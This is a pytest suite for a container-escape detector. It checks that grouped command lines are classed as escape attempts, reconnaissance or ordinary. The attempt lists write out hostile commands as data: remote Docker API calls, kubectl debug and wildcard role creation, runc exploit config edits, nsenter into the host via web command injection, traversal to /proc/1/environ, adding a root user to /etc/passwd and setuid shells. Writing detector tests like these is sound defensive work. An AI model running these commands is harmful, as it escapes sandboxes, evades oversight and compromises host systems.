"""Ways out as their makers write them down: builds of tools, engines by address, and neighbours that are none."""

import pytest

from sandbox.detect.escape.reading import read_bare, read_command

ATTEMPTS = {
    "docker-api": [
        "docker -H 10.1.1.1:2375 ps",
        "docker -H=$WHERE:2375 run -it alpine",
        "docker --tlsverify --tlscacert ca.pem -H engine:2376 info",
        "docker -H http://10.1.1.1:4000 images",
        "docker.exe --host engine.example.org:2375 ps",
        "docker-compose -H 10.1.1.1:2375 up",
        "docker context create other --docker host=10.1.1.1:2375",
        "export DOCKER_HOST=10.1.1.1:2375",
        "DOCKER_HOST=engine docker ps",
        "ssh -N -L 2375:localhost:2375 me@10.1.1.1",
        "env DOCKER_HOST=https://10.1.1.1:2376 docker ps",
    ],
    "k8s-api": [
        "kubectl debug -it web-0 --image=alpine --target=web",
        "kubectl -n shop debug pod/web-0 --image=alpine -- sh",
        "oc debug node/one",
        "kubectl alpha debug web-0 --copy-to=web-1 --share-processes",
        "kubectl config set-credentials me --token=$T",
        "kubectl config set-credentials me --client-certificate=a.crt --client-key=a.key",
        "kubectl config set-cluster c --server=https://10.1.1.1:6443 --insecure-skip-tls-verify=true",
        "kubectl exec -it attacker-pod -- sh",
        "kubectl run evil --image=alpine",
        "kubectl create role all --verb='*' --resource='*'",
        "kubectl describe secret deployer-token-x7k2p -n build",
        "kubectl describe secrets -n kube-system",
    ],
    "runtime-cve": [
        """sed -i 's#"cwd": "/"#"cwd": "/proc/self/fd/8"#' config.json""",
        "jq '.process.cwd = \"/proc/self/fd/9\"' config.json",
        "yq -i '.process.args = [\"/proc/self/exe\"]' bundle/config.json",
        "perl -pi -e 's|sh|/proc/self/exe|' config.json",
        "python3 -c \"c = load(); c['process']['cwd'] = '/proc/self/fd/7'; dump(c)\"",
        """echo '{"process": {"cwd": "/proc/self/fd/7"}}' > config.json""",
        "printf 'FROM alpine\\nWORKDIR /proc/self/fd/8\\n' > Dockerfile",
        "P=$(ps axf | grep /proc/self/exe | awk '{print $1}')",
        "while ! pgrep -f /proc/self/exe; do :; done",
        "docker run --rm cve-2019-5736:poc",
        "./wait_for /proc/4242/exe 1 payload",
    ],
    "escape-tool": [
        "./cdk.exe run shim-pwn",
        "./docker_escape_linux_amd64 auto",
        "./keyctl-unmask -max 9",
        "./overwrite_runc",
    ],
    "kubelet-api": ["./kubeletctl_linux_amd64 pods --server 10.1.1.1"],
    "nsenter-host": [
        "curl http://web/exec -d 'command=nsenter -t 1 -m sh'",
        "curl http://web/exec --data-urlencode='cmd=nsenter -t 1 -m sh'",
        "curl 'http://web/shell?cmd=nsenter%20-t%201%20-m+sh'",
        """curl http://web/exec -d '{"command": "nsenter -t 1 -m sh"}'""",
        """curl http://web/exec --json '[{"cmd": ["nsenter", "-t", "1", "-m"]}]'""",
        "wget --post-data='exec=nsenter -t 1 -m' http://web/",
        "http POST http://web/exec cmd='nsenter -t 1 -m'",
    ],
    "k8s-sa-token": ["curl 'http://web/?file=/run/secrets/kubernetes.io/serviceaccount/token'"],
    "proc-root": [
        "curl 'http://web/get?name=..%2f..%2f..%2f..%2fproc%2f1%2fenviron'",
        "curl --path-as-is http://web/icons/.%2e/%2e%2e/%2e%2e/proc/1/environ",
        "curl http://web/ping -d 'ip=127.0.0.1; cat /proc/1/environ'",
    ],
    "device-mount": [
        "mknod /tmp/d block 8 1",
        "mknod -m 600 /tmp/d char 1 1",
        "mount /dev/anything /mnt",
        "mount -o ro ./sda1 /mnt",
        "echo 'a *:* rwm' > devices.allow",
    ],
    "kernel-module": ["echo 'cat /etc/shadow' > /proc/mine", "echo 'id > /o' | tee /proc/mine"],
    "kernel-cve": ["gcc main.c -o exploit", "go build -o /tmp/dirtypipe ."],
    "host-mount": [
        "cd /host/var/run/secrets/kubernetes.io/serviceaccount",
        "echo 'r::0:0::/:/bin/sh' >> /mnt/etc/passwd",
        "chroot ./host sh",
        "/var/lib/docker/overlay2/c0ffee/merged/bin/bash -p",
        "perl unchroot.pl",
        "chmod u+s /mnt/tmp/bash",
    ],
}
SURVEYS = {
    "kernel-recon": [
        "find / -name core_pattern",
        "find / -name uevent_helper",
        "find / | grep release_agent",
    ],
    "socket-recon": ["find / -iname '*docker.sock*'"],
    "cgroup-recon": ["find / -name devices.allow", "cat /sys/fs/cgroup/cgroup.controllers"],
    "k8s-recon": [
        "find / -name admin.conf",
        "kubectl get -o json pod web-0 -n shop",
        "kubectl -n shop get pods -o yaml",
        "kubectl get pods -o jsonpath='{.items[*].spec.nodeName}'",
        "kubectl get pods -o yaml | grep hostPath",
        "kubectl get validatingwebhookconfigurations",
        "pgrep -a runc",
        "ls /var/log/pods",
    ],
    "mount-recon": ["find / -name passwd | wc -l", "cat /proc/self/mountinfo"],
    "capability-recon": ["grep 0000003fffffffff /proc/self/status"],
    "container-fingerprint": ["ps aux | grep [c]ontainerd"],
    "net-recon": ["nmap -p 80,2375 example.org", "nc -zv example.org 10250"],
    "recon-tool": [
        "./docker_escape check",
        "python3 kubestriker.py",
        "git clone https://github.com/stealthcopter/deepce",
        "wget http://example.org/linpeas.sh",
    ],
}
ORDINARY = [
    "docker exec web curl -H Host:8080 http://localhost",
    "docker run -h web nginx",
    "docker --context staging ps",
    "docker context create other --docker host=ssh://me@example.org",
    "export DOCKER_HOST=",
    "export DOCKER_HOSTNAME=web",
    "kubectl logs deploy/debug",
    "kubectl debug --help",
    "kubectl config set-context dev --namespace=dev",
    "kubectl config set-cluster dev --server=https://dev.example.org",
    "kubectl get pods -n default -o yaml",
    "kubectl get pods -n dev",
    "kubectl get pod web -o jsonpath='{.status.phase}'",
    "kubectl create ns hackathon",
    "kubectl cp web:/tmp/backdoor-report.txt .",
    "kubectl create role reader --verb=get --resource=pods",
    """sed -i 's#"cwd": "/"#"cwd": "/srv"#' config.json""",
    """echo '{"cwd": "/srv"}' > config.json""",
    "echo 'WORKDIR /processed' >> Dockerfile",
    "./app /proc/self/exe",
    "./traitor --help",
    "cdk deploy",
    "git clone https://github.com/aws/aws-cdk",
    "curl -d 'cmd=start' http://localhost:8000",
    "curl -d 'text=nsenter -t 1 -m sh' http://localhost:8000",
    "curl 'http://localhost:8000/?path=/srv/a.txt'",
    "curl http://localhost:8000/a/../b/c.txt",
    """curl -d '{"command": 1, "code": "200"}' http://localhost:8000""",
    "curl 'http://localhost:8000/?q=nsenter+-t+1'",
    "curl -F 'file=@a.txt' http://localhost:8000",
    "mknod /tmp/pipe p",
    "chmod 755 /mnt/tmp/bash",
    "ssh -N -L 5432:localhost:5432 me@example.org",
    "docker run -e ESCAPE_HTML=1 app",
    "mount -t tmpfs tmpfs /dev/shm",
    "mount /dev/cdrom /mnt",
    "mount -o loop disk.img /mnt",
    "echo 'two words' > /proc/self/fd/1",
    "find . -name core_pattern.md",
    "find . -name '*.ko'",
    "find . -name passwd",
    "ps aux | grep [n]ginx",
    "pgrep -f server.py",
    "grep 00001234 data.csv",
    "nmap -p 443 example.org",
    "gcc main.c -o main",
    "[ -r /proc/self/mountinfo ]",
    "test -f /sys/fs/cgroup/cgroup.controllers",
    "./cmd/ctr ./cmd/containerd ./cmd/containerd-shim-runc-v2",
    "script -c 'runc run <container>'",
]


def pairs(lines):
    return [(technique, line) for technique, each in lines.items() for line in each]


@pytest.mark.parametrize(("technique", "line"), pairs(ATTEMPTS))
def test_a_way_out_is_an_attempt(technique, line):
    assert (technique, "attempted") in {(s.technique, s.level) for s in read_command(line)}


@pytest.mark.parametrize(("technique", "line"), pairs(SURVEYS))
def test_what_looks_for_one_is_a_survey(technique, line):
    assert {(s.technique, s.level) for s in read_command(line)} == {(technique, "recon")}


@pytest.mark.parametrize("line", ORDINARY)
def test_what_stands_beside_it_is_nothing(line):
    assert read_command(line) == []


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        (r".\docker_escape unix", "attempted"),
        (r"C:\tools\cdk.exe run shim-pwn", "attempted"),
        (r"..\bin\kubectl.exe --token=x get pods", "attempted"),
        ("docker_escape-linux-amd64 auto", "attempted"),
        ("cdk_linux_amd64 run mount-disk", "attempted"),
        (r".\docker_escape check", "recon"),
        ('{"Image": "alpine", "HostConfig": {"Binds": ["/:/mnt"]}}', "attempted"),
        ('{"Image": "alpine", "HostConfig": {"Binds": ["/srv/app:/app"]}}', None),
        (r".\venv\Scripts\activate", None),
        (r"C:\Python\python.exe main.py", None),
        ("docker-escape is a tool that I read about.", None),
    ],
)
def test_a_bare_line_may_begin_with_a_tool_by_whatever_path(line, shown):
    levels = {sign.level for sign in read_bare(line)}
    assert (max(levels, key=["recon", "attempted"].index) if levels else None) == shown
